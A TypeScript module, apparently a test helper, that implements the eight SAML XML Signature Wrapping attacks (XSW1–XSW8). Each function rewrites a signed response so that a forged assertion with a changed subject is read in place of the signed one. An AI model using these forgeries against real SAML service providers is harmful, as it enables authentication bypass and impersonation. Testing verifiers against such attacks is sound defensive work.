// The eight forms of signature wrapping (Somorovsky et al., On Breaking SAML, 2012), in the numbers that attack tools
// give them. Each makes somebody else of a response whose signature stays good.

type Tamper = (xml: string) => string

/** By their number. */
export const wrappings: Readonly<Record<string, Tamper>> = {
  'XSW1, the response in the signature of a forged one': (xml) => {
    const { response, signature } = piecesOf(xml)
    return forgedResponse(xml).replace(
      issuerEnd,
      `$&${signature.replace(signatureEnd, `<ds:Object>${response}</ds:Object>$&`)}`,
    )
  },
  'XSW2, the response before the signature in a forged one': (xml) => {
    const { response, signature } = piecesOf(xml)
    return forgedResponse(xml).replace(issuerEnd, `$&${response}${signature}`)
  },
  'XSW3, a forged assertion before the signed one': (xml) => {
    const { assertion, forged } = piecesOf(xml)
    return xml.replace(assertion, () => `${forged}${assertion}`)
  },
  'XSW4, the signed assertion within a forged one': (xml) => {
    const { assertion, forged } = piecesOf(xml)
    return xml.replace(assertion, () => forged.replace(assertionEnd, () => `${assertion}</saml:Assertion>`))
  },
  'XSW5, the signature in a forged assertion, the signed one after it': (xml) => {
    const { assertion, bare, forged, signature } = piecesOf(xml)
    return xml.replace(assertion, () => `${withSignature(forged, signature)}${bare}`)
  },
  'XSW6, the signed assertion in the signature of a forged one': (xml) => {
    const { assertion, bare, forged, signature } = piecesOf(xml)
    return xml.replace(assertion, () =>
      withSignature(
        forged,
        signature.replace(signatureEnd, () => `${bare}</ds:Signature>`),
      ),
    )
  },
  'XSW7, a forged assertion in extensions': (xml) => {
    const { assertion, forged } = piecesOf(xml)
    return xml.replace(assertion, () => `<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`)
  },
  'XSW8, the signed assertion in an object of the signature of a forged one': (xml) => {
    const { assertion, bare, forged, signature } = piecesOf(xml)
    const holding = signature.replace(signatureEnd, () => `<ds:Object>${bare}</ds:Object></ds:Signature>`)
    return xml.replace(assertion, () => withSignature(forged, holding))
  },
}

const issuerEnd = '</saml:Issuer>'
const assertionEnd = '</saml:Assertion>'
const signatureEnd = '</ds:Signature>'

type Pieces = { response: string; assertion: string; bare: string; forged: string; signature: string }

/** `response` and `bare`, the assertion, are without the signature that covers them. */
function piecesOf(xml: string): Pieces {
  const [assertion = ''] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml) ?? []
  const [own = ''] = /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(assertion) ?? []
  const bare = assertion.replace(own, '')
  const rest = xml.replace(assertion, '')
  const [ofResponse] = /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(rest) ?? []
  const signature = ofResponse ?? own
  return { response: xml.replace(signature, ''), assertion, bare, forged: forge(bare), signature: own }
}

function forge(xml: string): string {
  return xml.replaceAll(/ ID="[^"]*"/g, ' ID="_forged"').replace('>subject-1<', '>forged<')
}

function forgedResponse(xml: string): string {
  const { bare, forged } = piecesOf(xml)
  const unsigned = xml.replaceAll(/<ds:Signature[\s\S]*?<\/ds:Signature>/g, '')
  return unsigned.replace(bare, () => forged).replace(/ ID="[^"]*"/, ' ID="_forged-response"')
}

function withSignature(assertion: string, signature: string): string {
  return assertion.replace(issuerEnd, () => `${issuerEnd}${signature}`)
}
